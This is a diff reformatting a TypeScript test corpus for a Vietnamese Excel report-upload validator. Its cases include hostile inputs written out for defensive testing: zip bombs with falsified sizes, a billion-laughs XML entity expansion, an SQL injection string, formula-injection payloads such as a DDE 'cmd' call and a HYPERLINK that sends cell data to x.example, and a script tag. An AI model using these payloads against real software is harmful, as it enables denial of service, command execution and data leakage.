@@ -38,7 +38,14 @@ export interface CorpusBase {
   valid: Buffer;
 }
 
-const DOC: DocumentRecord = { cap: 'Cấp xã', loai: 'Kế hoạch', so_ky_hieu: '12/KH-UBND', ngay: '2026-02-05', co_quan: 'UBND xã Tân Phú', trich_yeu: 'Kế hoạch phòng, chống xâm hại trẻ em năm 2026' };
+const DOC: DocumentRecord = {
+  cap: 'Cấp xã',
+  loai: 'Kế hoạch',
+  so_ky_hieu: '12/KH-UBND',
+  ngay: '2026-02-05',
+  co_quan: 'UBND xã Tân Phú',
+  trich_yeu: 'Kế hoạch phòng, chống xâm hại trẻ em năm 2026',
+};
 
 function named(wb: ExcelJS.Workbook, name: string): ExcelJS.Cell {
   const ref = wb.definedNames.model.find((d) => d.name === name)!.ranges[0]!;
@@ -75,8 +82,21 @@ async function sheetPart(buf: Buffer, name: string): Promise<string> {
 }
 
 const bytes = (n: number, fill?: number) => (fill === undefined ? randomBytes(n) : Buffer.alloc(n, fill));
-const ok = (id: string, title: string, make: CorpusCase['make'], extra: Partial<CorpusCase> = {}): CorpusCase => ({ id, title, expect: 'accepted', make, ...extra });
-const no = (id: string, title: string, code: string, make: CorpusCase['make'], message?: RegExp): CorpusCase => ({ id, title, expect: 'rejected', code, make, message });
+const ok = (id: string, title: string, make: CorpusCase['make'], extra: Partial<CorpusCase> = {}): CorpusCase => ({
+  id,
+  title,
+  expect: 'accepted',
+  make,
+  ...extra,
+});
+const no = (id: string, title: string, code: string, make: CorpusCase['make'], message?: RegExp): CorpusCase => ({
+  id,
+  title,
+  expect: 'rejected',
+  code,
+  make,
+  message,
+});
 
 function containerCases(): CorpusCase[] {
   const cases: CorpusCase[] = [
@@ -86,8 +106,20 @@ function containerCases(): CorpusCase[] {
     no('zip-html', 'Trang HTML lưu thành .xlsx', 'not_xlsx', async () => Buffer.from('<html><body><table><tr><td>1</td></tr></table></body></html>')),
     no('zip-pdf', 'Tệp PDF đổi đuôi', 'not_xlsx', async () => Buffer.concat([Buffer.from('%PDF-1.7\n'), bytes(2000)])),
     no('zip-png', 'Ảnh PNG đổi đuôi', 'not_xlsx', async () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), bytes(500)])),
-    no('zip-xls', 'Tệp Excel 97-2003 (.xls) đổi đuôi', 'not_xlsx', async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), bytes(8000, 0)]), /\.xls/),
-    no('zip-password', 'Tệp .xlsx đặt mật khẩu (vỏ OLE mã hóa)', 'not_xlsx', async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('EncryptionInfo'), bytes(4000)]), /mật khẩu/),
+    no(
+      'zip-xls',
+      'Tệp Excel 97-2003 (.xls) đổi đuôi',
+      'not_xlsx',
+      async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), bytes(8000, 0)]),
+      /\.xls/,
+    ),
+    no(
+      'zip-password',
+      'Tệp .xlsx đặt mật khẩu (vỏ OLE mã hóa)',
+      'not_xlsx',
+      async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('EncryptionInfo'), bytes(4000)]),
+      /mật khẩu/,
+    ),
     no('zip-ods', 'Bảng tính LibreOffice .ods (không phải .xlsx)', 'not_template', async () => {
       const zip = new JSZip();
       zip.file('mimetype', 'application/vnd.oasis.opendocument.spreadsheet');
@@ -106,19 +138,30 @@ function containerCases(): CorpusCase[] {
       return b;
     }),
     no('zip-no-eocd', 'Tệp nén mất phần cuối', 'not_xlsx', async ({ valid }) => valid.subarray(0, valid.length - 30)),
-    no('zip-bomb', 'Zip bomb: 120 MB số 0 nén còn vài trăm KB', 'too_large', async ({ valid }) =>
-      editZip(valid, (zip) => void zip.file('xl/media/bomb.bin', Buffer.alloc(120 * 1024 * 1024))), /quá lớn/),
-    no('zip-bomb-lying-size', 'Zip bomb khai báo sai kích thước (60 MB khai là 1 KB)', 'too_large', async ({ valid }) => {
-      const name = 'xl/theme/theme9.xml';
-      const b = await editZip(valid, (zip) => void zip.file(name, ' '.repeat(60 * 1024 * 1024)));
-      // Rewrite the declared uncompressed size of that entry, in its local header and in the directory.
-      const key = Buffer.from(name);
-      for (let at = b.indexOf(key); at >= 0; at = b.indexOf(key, at + 1)) {
-        if (b.readUInt32LE(at - 30) === 0x04034b50) b.writeUInt32LE(1000, at - 30 + 22);
-        if (b.readUInt32LE(at - 46) === 0x02014b50) b.writeUInt32LE(1000, at - 46 + 24);
-      }
-      return b;
-    }, /nhiều hơn kích thước khai báo/),
+    no(
+      'zip-bomb',
+      'Zip bomb: 120 MB số 0 nén còn vài trăm KB',
+      'too_large',
+      async ({ valid }) => editZip(valid, (zip) => void zip.file('xl/media/bomb.bin', Buffer.alloc(120 * 1024 * 1024))),
+      /quá lớn/,
+    ),
+    no(
+      'zip-bomb-lying-size',
+      'Zip bomb khai báo sai kích thước (60 MB khai là 1 KB)',
+      'too_large',
+      async ({ valid }) => {
+        const name = 'xl/theme/theme9.xml';
+        const b = await editZip(valid, (zip) => void zip.file(name, ' '.repeat(60 * 1024 * 1024)));
+        // Rewrite the declared uncompressed size of that entry, in its local header and in the directory.
+        const key = Buffer.from(name);
+        for (let at = b.indexOf(key); at >= 0; at = b.indexOf(key, at + 1)) {
+          if (b.readUInt32LE(at - 30) === 0x04034b50) b.writeUInt32LE(1000, at - 30 + 22);
+          if (b.readUInt32LE(at - 46) === 0x02014b50) b.writeUInt32LE(1000, at - 46 + 24);
+        }
+        return b;
+      },
+      /nhiều hơn kích thước khai báo/,
+    ),
     no('zip-declared-huge', 'Kích thước giải nén khai báo 4 GB', 'too_large', async ({ valid }) => {
       const b = Buffer.from(valid);
       const eocd = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
@@ -128,10 +171,16 @@ function containerCases(): CorpusCase[] {
     }),
     no('zip-over-20mb', 'Tệp lớn hơn 20 MB', 'too_large', async ({ valid }) => Buffer.concat([valid, bytes(21 * 1024 * 1024, 0)]), /tối đa 20 MB/),
     no('zip-sheet-garbage', 'Trang tính có XML hỏng', 'not_xlsx', async ({ valid }) => editXml(valid, 'xl/workbook.xml', (x) => x.slice(0, x.length / 2))),
-    no('zip-missing-sheet-part', 'Thiếu tệp trang tính bên trong', 'missing_name', async ({ valid }) => editZip(valid, (z) => void z.remove('xl/worksheets/sheet2.xml'))),
+    no('zip-missing-sheet-part', 'Thiếu tệp trang tính bên trong', 'missing_name', async ({ valid }) =>
+      editZip(valid, (z) => void z.remove('xl/worksheets/sheet2.xml')),
+    ),
   ];
   for (const [i, frac] of [0.01, 0.05, 0.1, 0.2, 0.25, 0.33, 0.4, 0.5, 0.6, 0.66, 0.75, 0.8, 0.9, 0.97, 0.995].entries()) {
-    cases.push(no(`zip-truncated-${i + 1}`, `Tệp bị cắt còn ${Math.round(frac * 1000) / 10}% (tải xuống dở dang)`, 'not_xlsx', async ({ valid }) => valid.subarray(0, Math.floor(valid.length * frac))));
+    cases.push(
+      no(`zip-truncated-${i + 1}`, `Tệp bị cắt còn ${Math.round(frac * 1000) / 10}% (tải xuống dở dang)`, 'not_xlsx', async ({ valid }) =>
+        valid.subarray(0, Math.floor(valid.length * frac)),
+      ),
+    );
   }
   for (const n of [16, 100, 1024, 4096, 65536, 1048576]) cases.push(no(`zip-random-${n}`, `${n} byte ngẫu nhiên`, 'not_xlsx', async () => bytes(n)));
   return cases;
@@ -141,7 +190,13 @@ function metaCases(): CorpusCase[] {
   const m = (id: string, title: string, code: string, key: string, value: ExcelJS.CellValue, message?: RegExp) =>
     no(id, title, code, ({ workbook }) => workbook((wb) => setMeta(wb, key, value)), message);
   return [
-    no('meta-missing', 'Không có trang _meta', 'not_template', ({ workbook }) => workbook((wb) => wb.removeWorksheet(wb.getWorksheet('_meta')!.id)), /không phải biểu mẫu của Báo cáo 121/),
+    no(
+      'meta-missing',
+      'Không có trang _meta',
+      'not_template',
+      ({ workbook }) => workbook((wb) => wb.removeWorksheet(wb.getWorksheet('_meta')!.id)),
+      /không phải biểu mẫu của Báo cáo 121/,
+    ),
     no('meta-renamed', 'Trang _meta bị đổi tên', 'not_template', ({ workbook }) => workbook((wb) => (wb.getWorksheet('_meta')!.name = 'meta'))),
     m('meta-id-other', 'Mã biểu mẫu của phần mềm khác', 'not_template', 'template_id', 'nq456'),
     m('meta-id-empty', 'Mã biểu mẫu bị xóa', 'not_template', 'template_id', null),
@@ -153,7 +208,7 @@ function metaCases(): CorpusCase[] {
     m('meta-unit-unknown', 'Mã đơn vị không có trong danh sách', 'unknown_unit', 'unit_code', 'X99', /"X99"/),
     m('meta-unit-empty', 'Mã đơn vị bị xóa', 'unknown_unit', 'unit_code', null),
     m('meta-unit-root', 'Mã đơn vị là cấp tỉnh (không báo cáo)', 'unknown_unit', 'unit_code', 'TINH'),
-    m('meta-unit-injection', "Mã đơn vị chứa câu lệnh SQL", 'unknown_unit', 'unit_code', "X03' OR '1'='1"),
+    m('meta-unit-injection', 'Mã đơn vị chứa câu lệnh SQL', 'unknown_unit', 'unit_code', "X03' OR '1'='1"),
     m('meta-year-2019', 'Năm 2019 ngoài các năm của cơ sở dữ liệu', 'wrong_year', 'year', 2019, /"2019"/),
     m('meta-year-2101', 'Năm 2101', 'wrong_year', 'year', 2101),
     m('meta-year-text', 'Năm là chữ', 'wrong_year', 'year', 'hai nghìn'),
@@ -161,11 +216,13 @@ function metaCases(): CorpusCase[] {
     m('meta-year-empty', 'Năm bị xóa', 'wrong_year', 'year', null),
     ok('meta-visible', 'Trang _meta bị hiện ra (Excel, LibreOffice)', ({ workbook }) => workbook((wb) => (wb.getWorksheet('_meta')!.state = 'visible'))),
     ok('meta-no-workbook-id', 'Mất workbook_id', ({ workbook }) => workbook((wb) => setMeta(wb, 'workbook_id', null))),
-    ok('meta-extra-rows', 'Trang _meta có thêm dòng rác', ({ workbook }) => workbook((wb) => {
-      const meta = wb.getWorksheet('_meta')!;
-      meta.getCell(40, 1).value = 'rac';
-      meta.getCell(40, 2).value = '=1+1';
-    })),
+    ok('meta-extra-rows', 'Trang _meta có thêm dòng rác', ({ workbook }) =>
+      workbook((wb) => {
+        const meta = wb.getWorksheet('_meta')!;
+        meta.getCell(40, 1).value = 'rac';
+        meta.getCell(40, 2).value = '=1+1';
+      }),
+    ),
     ok('meta-year-text-number', 'Năm ghi dạng chữ "2026"', ({ workbook }) => workbook((wb) => setMeta(wb, 'year', '2026'))),
   ];
 }
@@ -178,33 +235,50 @@ function nameCases(): CorpusCase[] {
     no(`name-deleted-${n}`, `Tên ô ${n} bị xóa`, 'missing_name', ({ workbook }) => workbook(drop(n)), new RegExp(n)),
   );
   cases.push(
-    no('name-ref-error', 'Tên ô trỏ tới #REF! (dòng bị xóa)', 'missing_name', async ({ valid }) => editXml(valid, 'xl/workbook.xml', (x) => x.replace(/(<definedName name="v_pl01_bl_nu">)[^<]*/, '$1#REF!'))),
-    no('name-other-sheet', 'Tên ô trỏ tới trang không tồn tại', 'missing_name', async ({ valid }) => editXml(valid, 'xl/workbook.xml', (x) => x.replace(/(<definedName name="v_pl01_bl_nu">)[^<]*/, "$1'KHONG_CO'!$C$6"))),
+    no('name-ref-error', 'Tên ô trỏ tới #REF! (dòng bị xóa)', 'missing_name', async ({ valid }) =>
+      editXml(valid, 'xl/workbook.xml', (x) => x.replace(/(<definedName name="v_pl01_bl_nu">)[^<]*/, '$1#REF!')),
+    ),
+    no('name-other-sheet', 'Tên ô trỏ tới trang không tồn tại', 'missing_name', async ({ valid }) =>
+      editXml(valid, 'xl/workbook.xml', (x) => x.replace(/(<definedName name="v_pl01_bl_nu">)[^<]*/, "$1'KHONG_CO'!$C$6")),
+    ),
     no('sheet-deleted', 'Trang PL01 bị xóa', 'missing_name', ({ workbook }) => workbook((wb) => wb.removeWorksheet(wb.getWorksheet('PL01')!.id))),
-    ok('name-moved-rows', 'Chèn dòng phía trên bảng: các ô vẫn được tìm theo tên', async ({ valid }) => {
-      // Move PL01's named cells 3 rows down, as Excel does when the unit inserts rows above the table.
-      const wb = new ExcelJS.Workbook();
-      await wb.xlsx.load(valid as unknown as ExcelJS.Buffer);
-      const ws = wb.getWorksheet('PL01')!;
-      const model = wb.definedNames.model.map((d) => {
-        const ref = d.ranges[0]!;
-        if (!ref.includes('PL01')) return d;
-        const m = /\$([A-Z]+)\$(\d+)/.exec(ref)!;
-        const from = ws.getCell(`${m[1]}${m[2]}`);
-        const to = ws.getCell(`${m[1]}${Number(m[2]) + 30}`);
-        to.value = from.value;
-        from.value = 999; // a stale figure left at the old position must not be read
-        return { name: d.name, ranges: [`PL01!$${m[1]}$${Number(m[2]) + 30}`] };
-      });
-      wb.definedNames.model = model;
-      return Buffer.from(await wb.xlsx.writeBuffer());
-    }, { stored: { values: { pl01_bl_vu: 2, pl01_bl_tre: 3 } } }),
-    ok('sheet-renamed-order', 'Các trang bị đổi thứ tự', async ({ valid }) => editXml(valid, 'xl/workbook.xml', (x) => {
-      const sheets = /<sheets>(.*)<\/sheets>/.exec(x)![1]!;
-      const parts = sheets.match(/<sheet [^>]*\/>/g)!;
-      return x.replace(sheets, [...parts].reverse().join(''));
-    }), { stored: { values: { pl01_bl_vu: 2 } } }),
-    ok('extra-sheet', 'Đơn vị thêm một trang tính ghi chú', ({ workbook }) => workbook((wb) => (wb.addWorksheet('Ghi chu').getCell('A1').value = 'ghi chú riêng'))),
+    ok(
+      'name-moved-rows',
+      'Chèn dòng phía trên bảng: các ô vẫn được tìm theo tên',
+      async ({ valid }) => {
+        // Move PL01's named cells 3 rows down, as Excel does when the unit inserts rows above the table.
+        const wb = new ExcelJS.Workbook();
+        await wb.xlsx.load(valid as unknown as ExcelJS.Buffer);
+        const ws = wb.getWorksheet('PL01')!;
+        const model = wb.definedNames.model.map((d) => {
+          const ref = d.ranges[0]!;
+          if (!ref.includes('PL01')) return d;
+          const m = /\$([A-Z]+)\$(\d+)/.exec(ref)!;
+          const from = ws.getCell(`${m[1]}${m[2]}`);
+          const to = ws.getCell(`${m[1]}${Number(m[2]) + 30}`);
+          to.value = from.value;
+          from.value = 999; // a stale figure left at the old position must not be read
+          return { name: d.name, ranges: [`PL01!$${m[1]}$${Number(m[2]) + 30}`] };
+        });
+        wb.definedNames.model = model;
+        return Buffer.from(await wb.xlsx.writeBuffer());
+      },
+      { stored: { values: { pl01_bl_vu: 2, pl01_bl_tre: 3 } } },
+    ),
+    ok(
+      'sheet-renamed-order',
+      'Các trang bị đổi thứ tự',
+      async ({ valid }) =>
+        editXml(valid, 'xl/workbook.xml', (x) => {
+          const sheets = /<sheets>(.*)<\/sheets>/.exec(x)![1]!;
+          const parts = sheets.match(/<sheet [^>]*\/>/g)!;
+          return x.replace(sheets, [...parts].reverse().join(''));
+        }),
+      { stored: { values: { pl01_bl_vu: 2 } } },
+    ),
+    ok('extra-sheet', 'Đơn vị thêm một trang tính ghi chú', ({ workbook }) =>
+      workbook((wb) => (wb.addWorksheet('Ghi chu').getCell('A1').value = 'ghi chú riêng')),
+    ),
     ok('unprotected', 'Đơn vị bỏ bảo vệ trang tính', ({ workbook }) => workbook((wb) => wb.worksheets.forEach((w) => w.unprotect()))),
   );
   return cases;
@@ -220,7 +294,9 @@ function numberCasesAcrossCells(): CorpusCase[] {
   return cells.flatMap((cell) =>
     values
       .filter(([id]) => !(id === 'decimal' && cell === 'v_nl_kinh_phi_xh'))
-      .map(([id, label, value, code]) => no(`cell-${cell.slice(2)}-${id}`, `Ô ${cell.slice(2)}: ${label}`, code, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value)))),
+      .map(([id, label, value, code]) =>
+        no(`cell-${cell.slice(2)}-${id}`, `Ô ${cell.slice(2)}: ${label}`, code, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value))),
+      ),
   );
 }
 
@@ -255,7 +331,8 @@ function numberCases(): CorpusCase[] {
         const c = named(wb, 'v_pl01_bl_nam');
         c.value = new Date(Date.UTC(2026, 1, 5));
         c.numFmt = 'dd/mm/yyyy';
-      })),
+      }),
+    ),
     good('date-serial', 'Số sê-ri ngày 46058 trong ô định dạng số (là một con số)', 46058, 46058),
     bad('error-div0', 'Lỗi #DIV/0!', 'not_number', { error: '#DIV/0!' } as V),
     bad('error-na', 'Lỗi #N/A', 'not_number', { error: '#N/A' } as V),
@@ -269,14 +346,19 @@ function numberCases(): CorpusCase[] {
     bad('decimal-tiny', 'Số 3,0000001 trong ô đếm', 'not_integer', 3.0000001),
     bad('decimal-police', 'Số thập phân trong ô của khối công an… (ô số vụ)', 'not_integer', 0.1, 'v_pl01_xhtd_vu'),
     good('zero', 'Số 0 (không có trường hợp nào)', 0, 0),
-    ok('num-merged', 'Hai ô nhập bị gộp: ô bị che coi là trống, không lấy số của ô kia', ({ workbook }) =>
-      workbook((wb) => {
-        const a = named(wb, 'v_tt_cuoc');
-        const b = named(wb, 'v_tt_doi_tuong');
-        a.worksheet.unprotect();
-        a.worksheet.mergeCells(`${a.address}:${b.address}`);
-        a.value = 12;
-      }), { code: 'merged_input', stored: { values: { tt_cuoc: 12, tt_doi_tuong: null } } }),
+    ok(
+      'num-merged',
+      'Hai ô nhập bị gộp: ô bị che coi là trống, không lấy số của ô kia',
+      ({ workbook }) =>
+        workbook((wb) => {
+          const a = named(wb, 'v_tt_cuoc');
+          const b = named(wb, 'v_tt_doi_tuong');
+          a.worksheet.unprotect();
+          a.worksheet.mergeCells(`${a.address}:${b.address}`);
+          a.value = 12;
+        }),
+      { code: 'merged_input', stored: { values: { tt_cuoc: 12, tt_doi_tuong: null } } },
+    ),
     good('blank', 'Để trống (chưa có số liệu)', null, null),
     good('blank-space', 'Ô chỉ có dấu cách', '   ', null),
     good('big', 'Số rất lớn 1.000.000', 1_000_000, 1_000_000),
@@ -293,7 +375,14 @@ function numberCases(): CorpusCase[] {
     good('formula-zero', 'Công thức =1-1 cho kết quả 0 (không phải trống)', { formula: '1-1', result: 0 } as V, 0, 'v_pl01_bl_nam', 'formula_in_input'),
     good('formula-no-cache', 'Công thức chưa tính (không có giá trị lưu)', { formula: '1+2' } as V, null, 'v_pl01_bl_nam', 'formula_in_input'),
     good('formula-text-result', 'Công thức trả về số dạng chữ', { formula: '"4"', result: '4' } as V, 4, 'v_pl01_bl_nam', 'formula_in_input'),
-    good('richtext', 'Số trong ô định dạng nhiều kiểu chữ', { richText: [{ text: '1' }, { text: '2', font: { bold: true } }] } as V, 12, 'v_pl01_bl_nam', 'number_as_text'),
+    good(
+      'richtext',
+      'Số trong ô định dạng nhiều kiểu chữ',
+      { richText: [{ text: '1' }, { text: '2', font: { bold: true } }] } as V,
+      12,
+      'v_pl01_bl_nam',
+      'number_as_text',
+    ),
   ];
 }
 
@@ -315,10 +404,15 @@ function textCases(): CorpusCase[] {
   const text = (id: string, title: string, value: ExcelJS.CellValue, stored: string, code?: string, cell = 't_a2') =>
     ok(`text-${id}`, title, ({ workbook }) => workbook((wb) => (named(wb, cell).value = value)), { code, stored: { texts: { [cell]: stored } } });
   const cases: CorpusCase[] = [
-    text('formula-injection-eq', 'Chuỗi bắt đầu bằng "=" (chèn công thức)', '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'),
-    text('formula-injection-plus', 'Chuỗi bắt đầu bằng "+"', '+cmd|\' /C calc\'!A0', "+cmd|' /C calc'!A0"),
-    text('formula-injection-minus', 'Chuỗi bắt đầu bằng "-"', '-2+3+cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0"),
-    text('formula-injection-at', 'Chuỗi bắt đầu bằng "@"', '@SUM(1+1)*cmd|\' /C calc\'!A0', "@SUM(1+1)*cmd|' /C calc'!A0"),
+    text(
+      'formula-injection-eq',
+      'Chuỗi bắt đầu bằng "=" (chèn công thức)',
+      '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
+      '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
+    ),
+    text('formula-injection-plus', 'Chuỗi bắt đầu bằng "+"', "+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
+    text('formula-injection-minus', 'Chuỗi bắt đầu bằng "-"', "-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+    text('formula-injection-at', 'Chuỗi bắt đầu bằng "@"', "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
     text('formula-injection-tab', 'Chuỗi bắt đầu bằng tab và "="', '\t=1+1', '\t=1+1'),
     text('html', 'Thẻ HTML/script trong văn bản', '<script>alert("x")</script><b>đậm</b>', '<script>alert("x")</script><b>đậm</b>'),
     text('nfd', 'Tiếng Việt tổ hợp (NFD) được chuẩn hóa NFC', 'Trẻ em Việt Nam'.normalize('NFD'), 'Trẻ em Việt Nam'),
@@ -331,10 +425,17 @@ function textCases(): CorpusCase[] {
     text('number', 'Số trong ô văn bản', 2026, '2026'),
     text('date', 'Ngày trong ô văn bản', new Date(Date.UTC(2026, 4, 1)), '2026-05-01'),
   ];
-  LEGACY.forEach(([enc, legacy, unicode], i) => cases.push(text(`${enc}-${i + 1}`, `Văn bản bảng mã ${enc === 'tcvn3' ? 'TCVN3 (ABC)' : 'VNI'}: "${legacy}"`, legacy, unicode, 'legacy_encoding')));
+  LEGACY.forEach(([enc, legacy, unicode], i) =>
+    cases.push(text(`${enc}-${i + 1}`, `Văn bản bảng mã ${enc === 'tcvn3' ? 'TCVN3 (ABC)' : 'VNI'}: "${legacy}"`, legacy, unicode, 'legacy_encoding')),
+  );
   LEGACY.slice(0, 4).forEach(([enc, legacy, unicode], i) =>
     cases.push(
-      ok(`doc-${enc}-${i + 1}`, `Trích yếu văn bản bảng mã ${enc.toUpperCase()}`, ({ workbook }) => workbook(undefined, { documents: [{ ...DOC, trich_yeu: legacy }] }), { code: 'legacy_encoding', stored: { documents: 1, documentTexts: [unicode] } }),
+      ok(
+        `doc-${enc}-${i + 1}`,
+        `Trích yếu văn bản bảng mã ${enc.toUpperCase()}`,
+        ({ workbook }) => workbook(undefined, { documents: [{ ...DOC, trich_yeu: legacy }] }),
+        { code: 'legacy_encoding', stored: { documents: 1, documentTexts: [unicode] } },
+      ),
     ),
   );
   return cases;
@@ -346,8 +447,22 @@ function documentCases(): CorpusCase[] {
     wb.getWorksheet('PL02')!.getCell(`${col}6`).value = value;
   };
   const cases: CorpusCase[] = [];
-  for (const [field, label] of [['cap', 'cấp ban hành'], ['loai', 'loại văn bản'], ['so_ky_hieu', 'số, ký hiệu'], ['ngay', 'ngày ban hành'], ['trich_yeu', 'trích yếu']] as const) {
-    cases.push(no(`doc-missing-${field}`, `Văn bản thiếu ${label}`, 'doc_incomplete', ({ workbook }) => workbook(undefined, doc({ [field]: '' })), new RegExp(`thiếu ${label}`)));
+  for (const [field, label] of [
+    ['cap', 'cấp ban hành'],
+    ['loai', 'loại văn bản'],
+    ['so_ky_hieu', 'số, ký hiệu'],
+    ['ngay', 'ngày ban hành'],
+    ['trich_yeu', 'trích yếu'],
+  ] as const) {
+    cases.push(
+      no(
+        `doc-missing-${field}`,
+        `Văn bản thiếu ${label}`,
+        'doc_incomplete',
+        ({ workbook }) => workbook(undefined, doc({ [field]: '' })),
+        new RegExp(`thiếu ${label}`),
+      ),
+    );
   }
   cases.push(
     no('doc-date-two-digit-year', 'Năm ghi hai chữ số "05/02/26"', 'doc_date', ({ workbook }) => workbook(cell('D', '05/02/26'), doc({}))),
@@ -355,10 +470,18 @@ function documentCases(): CorpusCase[] {
     no('doc-date-month-13', 'Tháng 13', 'doc_date', ({ workbook }) => workbook(cell('D', '05/13/2026'), doc({}))),
     no('doc-date-bool', 'Ngày là giá trị TRUE', 'doc_date', ({ workbook }) => workbook(cell('D', true), doc({}))),
     no('doc-date-negative', 'Số ngày âm', 'doc_date', ({ workbook }) => workbook(cell('D', -5), doc({}))),
-    ok('doc-co-quan-tcvn3', 'Cơ quan ban hành gõ TCVN3', ({ workbook }) => workbook(undefined, doc({ co_quan: 'Uû ban nh©n d©n x· T©n Phó' })), { code: 'legacy_encoding', stored: { documents: 1 } }),
-    ok('doc-co-quan-vni', 'Cơ quan ban hành gõ VNI', ({ workbook }) => workbook(undefined, doc({ co_quan: 'UÛy ban nhaân daân xaõ Taân Phuù' })), { code: 'legacy_encoding', stored: { documents: 1 } }),
+    ok('doc-co-quan-tcvn3', 'Cơ quan ban hành gõ TCVN3', ({ workbook }) => workbook(undefined, doc({ co_quan: 'Uû ban nh©n d©n x· T©n Phó' })), {
+      code: 'legacy_encoding',
+      stored: { documents: 1 },
+    }),
+    ok('doc-co-quan-vni', 'Cơ quan ban hành gõ VNI', ({ workbook }) => workbook(undefined, doc({ co_quan: 'UÛy ban nhaân daân xaõ Taân Phuù' })), {
+      code: 'legacy_encoding',
+      stored: { documents: 1 },
+    }),
     ok('doc-ghi-chu-long', 'Ghi chú rất dài', ({ workbook }) => workbook(undefined, doc({ ghi_chu: 'ghi chú '.repeat(2000) })), { stored: { documents: 1 } }),
-    ok('doc-no-co-quan', 'Văn bản không ghi cơ quan ban hành (không bắt buộc)', ({ workbook }) => workbook(undefined, doc({ co_quan: '' })), { stored: { documents: 1 } }),
+    ok('doc-no-co-quan', 'Văn bản không ghi cơ quan ban hành (không bắt buộc)', ({ workbook }) => workbook(undefined, doc({ co_quan: '' })), {
+      stored: { documents: 1 },
+    }),
     no('doc-date-early', 'Ngày ban hành trước 07/01/2021', 'doc_date', ({ workbook }) => workbook(undefined, doc({ ngay: '2020-12-31' })), /31\/12\/2020/),
     no('doc-date-future', 'Ngày ban hành sau ngày nhập', 'doc_date', ({ workbook }) => workbook(undefined, doc({ ngay: '2030-01-01' }))),
     no('doc-date-words', 'Ngày ghi bằng chữ "đầu năm"', 'doc_date', ({ workbook }) => workbook(cell('D', 'đầu năm'), doc({}))),
@@ -371,14 +494,30 @@ function documentCases(): CorpusCase[] {
     ok('doc-date-serial', 'Ngày dạng số sê-ri Excel 46058', ({ workbook }) => workbook(cell('D', 46058), doc({})), { stored: { documents: 1 } }),
     no('doc-cap-unknown', 'Cấp ban hành không có trong danh mục', 'doc_list_value', ({ workbook }) => workbook(undefined, doc({ cap: 'Trung ương' }))),
     no('doc-loai-unknown', 'Loại văn bản không có trong danh mục', 'doc_list_value', ({ workbook }) => workbook(undefined, doc({ loai: 'Thông báo miệng' }))),
-    ok('doc-cap-variant', 'Cấp ban hành viết thường, không dấu "cap xa"', ({ workbook }) => workbook(undefined, doc({ cap: 'cap xa' })), { stored: { documents: 1 } }),
-    ok('doc-duplicate', 'Cùng một văn bản ghi hai lần', ({ workbook }) => workbook(undefined, { documents: [DOC, { ...DOC, so_ky_hieu: ' 12/kh-ubnd ' }] }), { code: 'doc_duplicate', stored: { documents: 1 } }),
-    ok('doc-full-list', '300 văn bản (đầy bảng)', ({ workbook }) => workbook(undefined, { documents: Array.from({ length: 300 }, (_, i) => ({ ...DOC, so_ky_hieu: `${i + 1}/KH-UBND` })) }), { stored: { documents: 300 } }),
+    ok('doc-cap-variant', 'Cấp ban hành viết thường, không dấu "cap xa"', ({ workbook }) => workbook(undefined, doc({ cap: 'cap xa' })), {
+      stored: { documents: 1 },
+    }),
+    ok('doc-duplicate', 'Cùng một văn bản ghi hai lần', ({ workbook }) => workbook(undefined, { documents: [DOC, { ...DOC, so_ky_hieu: ' 12/kh-ubnd ' }] }), {
+      code: 'doc_duplicate',
+      stored: { documents: 1 },
+    }),
+    ok(
+      'doc-full-list',
+      '300 văn bản (đầy bảng)',
+      ({ workbook }) => workbook(undefined, { documents: Array.from({ length: 300 }, (_, i) => ({ ...DOC, so_ky_hieu: `${i + 1}/KH-UBND` })) }),
+      { stored: { documents: 300 } },
+    ),
     ok('doc-injection', 'Trích yếu bắt đầu bằng "="', ({ workbook }) => workbook(undefined, doc({ trich_yeu: '=1+1 kế hoạch' })), { stored: { documents: 1 } }),
-    ok('doc-blank-rows-between', 'Dòng trống xen giữa các văn bản', ({ workbook }) => workbook((wb) => {
-      const ws = wb.getWorksheet('PL02')!;
-      ws.getRow(9).values = ['Cấp xã', 'Quyết định', '5/QĐ-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Quyết định kiện toàn Ban chỉ đạo'];
-    }, doc({})), { stored: { documents: 2 } }),
+    ok(
+      'doc-blank-rows-between',
+      'Dòng trống xen giữa các văn bản',
+      ({ workbook }) =>
+        workbook((wb) => {
+          const ws = wb.getWorksheet('PL02')!;
+          ws.getRow(9).values = ['Cấp xã', 'Quyết định', '5/QĐ-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Quyết định kiện toàn Ban chỉ đạo'];
+        }, doc({})),
+      { stored: { documents: 2 } },
+    ),
   );
   return cases;
 }
@@ -387,11 +526,18 @@ function xmlCases(): CorpusCase[] {
   return [
     no('xml-billion-laughs', 'Mở rộng thực thể XML (billion laughs)', 'not_xlsx', async ({ valid }) =>
       editXml(valid, 'xl/workbook.xml', (x) => {
-        const dtd = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') + ']>';
+        const dtd =
+          '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
+          Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
+          ']>';
